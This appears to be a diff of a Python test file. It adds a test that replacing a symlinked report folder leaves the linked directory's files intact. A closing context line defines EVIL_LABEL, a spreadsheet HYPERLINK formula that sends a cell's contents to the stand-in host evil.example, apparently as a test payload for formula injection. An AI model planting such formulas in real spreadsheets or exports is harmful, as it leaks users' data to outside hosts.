@@ -165,6 +165,20 @@ def test_a_replaced_folder_is_removed_whole_without_following_its_links(tmp_path
     assert (outside / "kept" / "precious.txt").read_text() == "precious"
 
 
+def test_a_report_folder_that_is_a_link_is_replaced_without_emptying_what_it_links_to(tmp_path):
+    elsewhere = tmp_path / "elsewhere"
+    with staged_folder(elsewhere, ".mark") as folder:
+        for kind in ("actor", "coalition"):
+            (folder / "id" / kind).mkdir(parents=True)
+            (folder / "id" / kind / "vng.html").write_text("kept")
+    target = tmp_path / "report"
+    target.symlink_to(elsewhere, target_is_directory=True)
+    with staged_folder(target, ".mark") as folder:
+        (folder / "index.html").write_text("new")
+    assert not target.is_symlink() and (target / "index.html").read_text() == "new"
+    assert [(elsewhere / "id" / kind / "vng.html").read_text() for kind in ("actor", "coalition")] == ["kept"] * 2
+
+
 # --- text that lands in a spreadsheet or on a terminal ---------------------------------------
 
 EVIL_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
